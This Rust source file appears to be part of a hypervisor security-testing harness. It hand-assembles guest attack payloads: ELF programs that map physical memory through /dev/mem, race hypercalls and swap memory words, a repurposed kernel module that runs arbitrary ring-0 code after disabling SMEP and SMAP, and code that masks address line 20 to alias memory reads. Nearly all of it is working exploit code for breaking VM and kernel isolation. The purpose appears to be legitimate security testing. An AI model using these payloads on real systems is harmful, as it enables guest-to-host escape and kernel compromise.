//! What attacks put into the guest: small static programs, and a kernel module that runs a few instructions at CPL 0.
//! Both are made here, byte by byte, because the guest has no compiler and its kernel no headers.

use std::arch::global_asm;

// Writes the 12 bytes of the hypervisor's signature, CPUID 4000_0000h, to standard output.
global_asm!(
    ".pushsection .rodata.attack_signature, \"a\"",
    "attack_signature:",
    "   mov eax, 0x40000000",
    "   cpuid",
    "   sub rsp, 16",
    "   mov [rsp], ebx",
    "   mov [rsp + 4], ecx",
    "   mov [rsp + 8], edx",
    "   mov eax, 1", //                        write
    "   mov edi, 1",
    "   mov rsi, rsp",
    "   mov edx, 12",
    "   syscall",
    "   mov eax, 60", //                       exit
    "   xor edi, edi",
    "   syscall",
    "attack_signature_end:",
    ".popsection",
);

// Maps one page of physical memory at MAPPED, for the code behind it, and leaves the address in RDI.
global_asm!(
    ".pushsection .rodata.attack_mapping, \"a\"",
    "attack_mapping:",
    ".quad 0", //                              address of the page
    "   lea rdi, [rip + 2f]",
    "   mov esi, 0x101002", //                 O_RDWR, O_SYNC
    "   mov eax, 2", //                        open
    "   syscall",
    "   mov r8, rax",
    "   mov edi, {mapped}",
    "   mov esi, 4096",
    "   mov edx, 7", //                        readable, writable, executable
    "   mov r10d, 0x11", //                    shared, fixed
    "   mov r9, [rip + attack_mapping]",
    "   mov eax, 9", //                        mmap
    "   syscall",
    "   cmp rax, rdi",
    "   je 3f",
    "   mov edi, eax",
    "   neg edi",
    "   mov eax, 60", //                       exit, with the error's number
    "   syscall",
    "2: .asciz \"/dev/mem\"",
    "3:",
    "attack_mapping_end:",
    ".popsection",
    mapped = const MAPPED,
);

// Behind a mapping: loads the module /tmp/attack.ko, and writes what the kernel answers, eight bytes, to standard output.
// The module's code finds the page mapped.
global_asm!(
    ".pushsection .rodata.attack_loader, \"a\"",
    "attack_loader:",
    "   lea rdi, [rip + 3f]",
    "   xor esi, esi",
    "   mov eax, 2",
    "   syscall",
    "   mov edi, eax",
    "   lea rsi, [rip + 4f]",
    "   xor edx, edx",
    "   mov eax, 313", //                      finit_module
    "   syscall",
    "   push rax",
    "   mov eax, 1",
    "   mov edi, 1",
    "   mov rsi, rsp",
    "   mov edx, 8",
    "   syscall",
    "   mov eax, 60",
    "   xor edi, edi",
    "   syscall",
    "3: .asciz \"/tmp/attack.ko\"",
    "4: .byte 0",
    "attack_loader_end:",
    ".popsection",
);

// Behind a mapping: gives the page's first word one of two values after the other, without end.
global_asm!(
    ".pushsection .rodata.attack_swap, \"a\"",
    "attack_swap:",
    "   jmp 2f",
    "   .org attack_swap + 8",
    "   .quad 0, 0", //                        the values
    "2: mov rax, [rip + attack_swap + 8]",
    "   mov rbx, [rip + attack_swap + 16]",
    "3: mov [rdi], rax",
    "   mov ecx, {pauses}",
    "4: pause",
    "   dec ecx",
    "   jnz 4b",
    "   xchg rax, rbx",
    "   jmp 3b",
    "attack_swap_end:",
    ".popsection",
    pauses = const 20,
);

// The module's init function. It runs the instructions in its slot with an interrupt table of its own, on the stack,
// and returns -(FAULTED + vector) if one of them faults, else -(RAN + AL). The slot keeps RBP, R12 and RSP.
global_asm!(
    ".pushsection .rodata.attack_module, \"a\"",
    "attack_module:",
    "   jmp 2f",
    "   .org attack_module + {slot}, 0x90",
    "   .org attack_module + {slot_end}, 0x90",
    "   jmp 6f",
    "2: push rbp",
    "   push rbx",
    "   push r12",
    "   push r13",
    "   push r14",
    "   push r15",
    "   pushfq",
    "   mov rbp, rsp",
    "   cli",
    "   sub rsp, 528",
    "   and rsp, -16",
    "   mov r12, rsp",
    "   sidt [r12]",
    "   lea rdi, [r12 + 16]",
    "   lea rax, [rip + 7f]",
    "   mov ecx, 32",
    "3: mov [rdi], ax",
    "   mov dword ptr [rdi + 2], 0x8e000010", // the kernel's CS, interrupt gate
    "   mov rdx, rax",
    "   shr rdx, 16",
    "   mov [rdi + 6], dx",
    "   shr rdx, 16",
    "   mov [rdi + 8], edx",
    "   mov dword ptr [rdi + 12], 0",
    "   add rdi, 16",
    "   add rax, 5",
    "   dec ecx",
    "   jnz 3b",
    "   sub rsp, 16",
    "   mov word ptr [rsp], 511",
    "   lea rax, [r12 + 16]",
    "   mov [rsp + 2], rax",
    "   lidt [rsp]",
    "   jmp attack_module + {slot}",
    "7: .rept 32", //                          five bytes each
    "   call 4f",
    "   .endr",
    "4: pop rax",
    "   lea rcx, [rip + 7b]",
    "   sub rax, rcx",
    "   xor edx, edx",
    "   mov ecx, 5",
    "   div ecx",
    "   add eax, {faulted} - 1",
    "   jmp 5f",
    "6: movzx eax, al",
    "   add eax, {ran}",
    "5: lidt [r12]",
    "   mov rsp, rbp",
    "   popfq",
    "   pop r15",
    "   pop r14",
    "   pop r13",
    "   pop r12",
    "   pop rbx",
    "   pop rbp",
    "   neg eax",
    "   ret",
    "attack_module_end:",
    ".popsection",
    slot = const SLOT,
    slot_end = const SLOT_END,
    faulted = const FAULTED,
    ran = const RAN,
);

// At CPL 0, called from the slot at its physical address, with interrupts off: reads eight bytes through own page tables
// while address line 20 is masked, by the fast gate at port 92h.
global_asm!(
    ".pushsection .rodata.attack_a20, \"a\"",
    "attack_a20:",
    "   jmp 2f",
    "   .org attack_a20 + 8",
    "   .quad 0, 0", //                        CR3; address to read
    "2: mov r13, cr3",
    "   mov rbx, [rip + attack_a20 + 16]",
    "   mov rax, [rip + attack_a20 + 8]",
    "   mov cr3, rax",
    "   in al, 0x92",
    "   mov ah, al",
    "   and al, 0xfd",
    "   out 0x92, al",
    "   mov rdx, [rbx]",
    "   mov [rip + attack_a20 + {seen}], rdx",
    "   mov al, ah",
    "   out 0x92, al",
    "   mov cr3, r13",
    "   ret",
    "   .balign 8, 0xcc",
    "attack_a20_end:",
    ".popsection",
    seen = const SEEN,
);

// At CPL 0, called from the slot at its physical address, with interrupts off: makes a hypercall with three results at
// RACED many times, through own page tables. A bit for each status that came of it is left behind.
global_asm!(
    ".pushsection .rodata.attack_race, \"a\"",
    "attack_race:",
    "   jmp 2f",
    "   .org attack_race + 8",
    "   .quad 0, 0, 0, 0", //                  CR3; where the hypercall is, and a JMP RBX; its number; how many
    "2: mov r13, cr3",
    "   mov rax, [rip + attack_race + 8]",
    "   mov cr3, rax",
    "   xor r14d, r14d",
    "3: mov ecx, 7",
    "   mov edx, {raced}",
    "   mov r8d, {raced} + 8",
    "   mov r9d, {raced} + 16",
    "   mov eax, [rip + attack_race + 24]",
    "   lea rbx, [rip + 4f]",
    "   jmp [rip + attack_race + 16]",
    "4: bts r14, rax",
    "   dec qword ptr [rip + attack_race + 32]",
    "   jnz 3b",
    "   mov [rip + attack_race + {seen}], r14",
    "   mov cr3, r13",
    "   ret",
    "   .balign 8, 0xcc",
    "attack_race_end:",
    ".popsection",
    raced = const RACED,
    seen = const SEEN,
);

// A slot: calls the page at MAPPED, which is a user page.
global_asm!(
    ".pushsection .rodata.attack_call, \"a\"",
    "attack_call:",
    "   mov r15, cr4",
    "   mov rax, r15",
    "   btr rax, 20", //                       SMEP
    "   btr rax, 21", //                       SMAP
    "   mov cr4, rax",
    "   mov eax, {mapped}",
    "   call rax",
    "   mov cr4, r15",
    "attack_call_end:",
    ".popsection",
    mapped = const MAPPED,
);

unsafe extern "C" {
    safe static attack_signature: u8;
    safe static attack_signature_end: u8;
    safe static attack_mapping: u8;
    safe static attack_mapping_end: u8;
    safe static attack_loader: u8;
    safe static attack_loader_end: u8;
    safe static attack_swap: u8;
    safe static attack_swap_end: u8;
    safe static attack_race: u8;
    safe static attack_race_end: u8;
    safe static attack_module: u8;
    safe static attack_module_end: u8;
    safe static attack_a20: u8;
    safe static attack_a20_end: u8;
    safe static attack_call: u8;
    safe static attack_call_end: u8;
}

/// Where a module's code finds the page of physical memory that the loader mapped.
pub const MAPPED: u32 = 0x1000_0000;
/// The slot's place in the module's code, which starts a page.
const SLOT: usize = 8;
const SLOT_END: usize = 0xf0;
const FAULTED: i64 = 1000;
const RAN: i64 = 2000;

/// What became of instructions at CPL 0.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Ring0 {
    /// An exception, by its vector.
    Exception(i64),
    /// They ran to their end and left this in AL.
    Ran(i64),
}

impl Ring0 {
    /// From what the loader printed.
    pub fn from_output(bytes: &[u8]) -> Self {
        let answer = bytes.try_into().map(i64::from_le_bytes);
        match answer.map(|a| -a) {
            Ok(code @ FAULTED..RAN) => Self::Exception(code - FAULTED),
            Ok(code @ RAN..4096) => Self::Ran(code - RAN),
            _ => panic!("the module did not run: {answer:?}, {:?}", String::from_utf8_lossy(bytes)),
        }
    }
}

fn blob(start: &'static u8, end: &'static u8) -> Vec<u8> {
    let length = std::ptr::from_ref(end).addr() - std::ptr::from_ref(start).addr();
    // SAFETY: each block above places all bytes from its first label to its last in one read-only section.
    unsafe { std::slice::from_raw_parts(start, length) }.to_vec()
}

/// A program that writes the hypervisor's signature to standard output.
pub fn signature() -> Vec<u8> {
    program(&blob(&attack_signature, &attack_signature_end), 0)
}

/// A program with the physical page `page` mapped at [`MAPPED`].
fn with_page(page: u64, code: &[u8]) -> Vec<u8> {
    let mut mapping = blob(&attack_mapping, &attack_mapping_end);
    put(&mut mapping, 0, &page.to_le_bytes());
    program(&[&mapping, code].concat(), 8)
}

/// A program that loads /tmp/attack.ko with the physical page `page` mapped at [`MAPPED`].
pub fn loader(page: u64) -> Vec<u8> {
    with_page(page, &blob(&attack_loader, &attack_loader_end))
}

/// A program that gives the first word of the physical page `page` each of two values in turn, until it is ended.
pub fn swap(page: u64, values: [u64; 2]) -> Vec<u8> {
    let mut code = blob(&attack_swap, &attack_swap_end);
    put(&mut code, 8, values.map(u64::to_le_bytes).as_flattened());
    with_page(page, &code)
}

/// A program that makes the hypercall `eax` at page offset `at`, and ends well if that is possible.
pub fn hypercall(eax: u32, at: usize) -> Vec<u8> {
    let mut code = vec![0xcc; at];
    let mov = at - 5;
    code[mov] = 0xb8; // mov eax, imm32
    code[mov + 1..].copy_from_slice(&eax.to_le_bytes());
    code.extend(VMMCALL);
    code.extend([0xb8, 60, 0, 0, 0, 0x31, 0xff, 0x0f, 0x05]); // mov eax, 60; xor edi, edi; syscall
    program(&code, mov)
}

/// Offset at which [`a20`] and [`race`] leave what they saw.
pub const SEEN: u64 = 0xff0;
/// Virtual address that [`race`] wants results at: the second GiB's first page.
pub const RACED: u32 = 0x4000_0000;

/// Code for the physical address `at`, with page tables a page above it, that reads `address` with address line 20 masked.
pub fn a20(at: u64, address: u64) -> Vec<u8> {
    let mut code = blob(&attack_a20, &attack_a20_end);
    put(&mut code, 8, &(at + 0x1000).to_le_bytes());
    put(&mut code, 16, &address.to_le_bytes());
    code
}

/// Code for the physical address `at`, with page tables a page above it, that makes `count` calls by the hypercall
/// `number` at `thunk`, behind which is [`JMP_RBX`].
pub fn race(at: u64, thunk: u64, number: u32, count: u64) -> Vec<u8> {
    let mut code = blob(&attack_race, &attack_race_end);
    let words = [at + 0x1000, thunk, number.into(), count];
    put(&mut code, 8, words.map(u64::to_le_bytes).as_flattened());
    code
}

/// A slot that calls what lies at [`MAPPED`].
pub fn call_mapped() -> Vec<u8> {
    blob(&attack_call, &attack_call_end)
}

/// VMMCALL.
pub const VMMCALL: [u8; 3] = [0x0f, 0x01, 0xd9];
/// JMP RBX.
pub const JMP_RBX: [u8; 2] = [0xff, 0xe3];

/// A static program: `code` at the start of a page, entered at `entry`.
///
/// Spec: System V ABI, "Object Files".
fn program(code: &[u8], entry: usize) -> Vec<u8> {
    const PAGE: u64 = 0x1000;
    const BASE: u64 = 0x40_0000;
    let mut file = vec![0; PAGE as usize];
    file[..16].copy_from_slice(b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0");
    put(&mut file, 16, &2u16.to_le_bytes()); // executable
    put(&mut file, 18, &62u16.to_le_bytes()); // x86-64
    put(&mut file, 20, &1u32.to_le_bytes());
    put(&mut file, 24, &(BASE + entry as u64).to_le_bytes());
    put(&mut file, 32, &64u64.to_le_bytes()); // program headers
    put(&mut file, 52, &64u16.to_le_bytes());
    put(&mut file, 54, &56u16.to_le_bytes());
    put(&mut file, 56, &1u16.to_le_bytes());
    let length = (code.len() as u64).to_le_bytes();
    put(&mut file, 64, &1u32.to_le_bytes()); // loadable
    put(&mut file, 68, &5u32.to_le_bytes()); // readable, executable
    for (at, value) in [(72, PAGE), (80, BASE), (88, BASE), (112, PAGE)] {
        put(&mut file, at, &value.to_le_bytes());
    }
    put(&mut file, 96, &length);
    put(&mut file, 104, &length);
    file.extend(code);
    file
}

fn put(file: &mut [u8], at: usize, bytes: &[u8]) {
    file[at..at + bytes.len()].copy_from_slice(bytes);
}

/// The slot's content: `code`, and nothing more.
pub fn slot(code: &[u8]) -> Vec<u8> {
    let mut slot = code.to_vec();
    assert!(slot.len() <= SLOT_END - SLOT, "{} bytes of attack", slot.len());
    slot.resize(SLOT_END - SLOT, 0x90);
    slot
}

/// A module whose init function runs the instructions in its slot, and where in the file that is. It is `base`, a module
/// of the guest's kernel, with another init function and another name, and without all that refers to the code it had.
/// The kernel takes it for what it is, an unsigned module.
pub fn module(base: &[u8]) -> (Vec<u8>, usize) {
    /// Sections that stay. All others are no longer loaded, and lose their names: the kernel would patch the code at
    /// the places which some of them list.
    const KEPT: [&str; 7] = [
        ".init.text",
        ".gnu.linkonce.this_module",
        ".rela.gnu.linkonce.this_module",
        ".modinfo",
        "__versions",
        ".symtab",
        ".strtab",
    ];
    const ALLOC: u8 = 2;
    let code = blob(&attack_module, &attack_module_end);
    let mut file = base.to_vec();
    file.resize(base.len().next_multiple_of(16), 0);
    let (code_at, code_size) = (file.len() as u64, code.len() as u64);
    file.extend(code);
    let headers = word(&file, 0x28, 8);
    let header = |index: usize| headers + index * 64;
    let names = word(&file, header(word(&file, 0x3e, 2)) + 24, 8);
    let mut init = None;
    for index in 1..word(&file, 0x3c, 2) {
        let at = header(index);
        let offset = word(&file, at + 24, 8);
        match text(&file, names + word(&file, at, 4)) {
            ".init.text" => {
                init = Some(index);
                put(&mut file, at + 24, &code_at.to_le_bytes());
                put(&mut file, at + 32, &code_size.to_le_bytes());
                put(&mut file, at + 48, &0x1000u64.to_le_bytes()); // starts a page
            }
            // The kernel loads no second module of the same name.
            ".gnu.linkonce.this_module" => {
                let name = file[offset..].iter().position(u8::is_ascii_lowercase).expect("module name");
                file[offset + name] ^= 1;
            }
            name if KEPT.contains(&name) => {}
            _ => {
                put(&mut file, at, &[0; 4]);
                file[at + 8] &= !ALLOC;
                if word(&file, at + 4, 4) == 4 && Some(word(&file, at + 44, 4)) == init {
                    put(&mut file, at + 32, &[0; 8]); // relocations of the code that was
                }
            }
        }
    }
    (file, code_at as usize + SLOT)
}

fn word(file: &[u8], at: usize, size: usize) -> usize {
    file[at..at + size].iter().rev().fold(0, |word, &byte| word << 8 | usize::from(byte))
}

fn text(file: &[u8], at: usize) -> &str {
    let length = file[at..].iter().position(|&b| b == 0).unwrap_or_default();
    std::str::from_utf8(&file[at..at + length]).unwrap_or_default()
}

/// Loads RAX.
pub fn rax(value: u64) -> Vec<u8> {
    let mut code = vec![0x48, 0xb8];
    code.extend(value.to_le_bytes());
    code
}
